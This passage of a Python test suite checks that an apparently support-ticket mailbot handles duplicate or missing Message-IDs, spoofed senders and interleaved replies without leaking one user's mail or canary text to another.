        free.write("petugas", reply, answers=notice, quote=False, subject=f"Re: {notice.subject}")
    free.once()
    minutes_later(free, 5)
    sent = written(free, "party = 'user'")
    assert says_canary(sent) == []
    doubtful = ("none at all", "nothing but the quotation", "between the lines")
    for style in _STYLES:
        passed_on = any(f"dicoba kembali: {style}." in each.text for each in sent)
        assert passed_on or style in doubtful, style
    held = [each for each in written(free, "template = 'staff_confirm'") if each.message["To"]]
    assert len(held) >= 2, "what is in doubt is asked about"


def test_threat_40_a_message_id_that_is_used_twice_or_missing_hides_no_mail(office: PaperWorld) -> None:
    identity = "Message-ID: <urgent-42@penyedia.test>"
    first = raw(identity, text="Surat palsu yang datang lebih dahulu.\r\n")
    genuine = raw(identity, sender=BUDI, text=f"Surat Budi yang asli. {CANARY}\r\n")
    nameless = [
        raw("Message-ID:", sender=f"u{n}@penyedia.test", text=f"Surat tanpa nomor {n * 7919}.\r\n") for n in range(3)
    ]
    arrive(office, [first, genuine, *nameless])
    assert states(office) == ["handled"] * 5
    assert len(office.rows("SELECT 1 FROM tickets")) == 5
    assert any(CANARY in each.text for each in office.letters("petugas"))
    # Nor does a copy of his words under another sender take the place of his own.
    office.drop(raw(sender=EVIL, text=f"Surat kedua Budi. {CANARY} dua\r\n"))
    office.drop(raw(sender=BUDI, text=f"Surat kedua Budi. {CANARY} dua\r\n"))
    office.once()
    assert states(office)[-2:] == ["handled", "handled"]
    # One that comes twice by our server's fault, bytes and all, is one.
    office.drop(genuine)
    office.once()
    assert states(office)[-1] == "duplicate"


def test_threat_54_no_mail_goes_to_another_person_than_it_was_written_for(office: PaperWorld) -> None:
    """Two users, whatever they and staff do in whatever order: each sees his own ticket, and bytes never change."""
    chance = Random(54)
    users = {"a@satu.test": "KENARI-SATU", "b@dua.test": "KENARI-DUA"}
    for address, word in users.items():
        office.write(address, f"Surat pertama {word}.", subject=f"Akun {word}")
    office.once()
    frozen: dict[int, tuple[str, bytes]] = {}
    for step in range(16):
        address, word = chance.choice(list(users.items()))
        other = next(each for each in users if each != address)
        mine = [each for each in office.letters(address) if each.message["X-Mailbot-Ticket"]]
        theirs = [each for each in office.letters(other) if each.message["X-Mailbot-Ticket"]]
        notices = [each for each in office.letters("petugas") if word in each.text and "ticket" in each.template]
        match chance.randrange(6):
            case 0:
                office.write(address, f"Susulan {step} {word}.", answers=chance.choice(mine))
            case 1:  # the other one's tag, or his mail, forwarded
                office.write(address, f"Susulan {step} {word}.", subject=f"Re: {chance.choice(theirs).subject}")
            case 2:
                office.write(address, f"Susulan {step} {word}.", answers=chance.choice(theirs), quote=False)
            case 3:
                office.write("petugas", f"#info Jawaban {step} {word}", answers=notices[0], quote=False)
            case 4:
                office.write("petugas", f"#jawab Jawaban {step} {word}", answers=notices[0], quote=False)
            case _:
                office.write("petugas", "#buka", answers=notices[0], quote=False)
        office.once()
        minutes_later(office, chance.choice((1, 5, 300)))
        for row in office.sent():
            was = frozen.setdefault(int(row["id"]), (str(row["recipient"]), bytes(row["raw"])))
            assert was == (row["recipient"], bytes(row["raw"])), "fixed when it was decided"
    sent = {address: written(office, "recipient = ?", address) for address in users}
    assert all(len(each) > 3 for each in sent.values())
    for address, word in users.items():
        others = [each for each in users.values() if each != word]
        for one in sent[address]:
            assert [box.addr_spec for box in one.message["To"].addresses] == [address]
            assert not any(each in f"{one.subject} {one.text} {one.html}" for each in others)
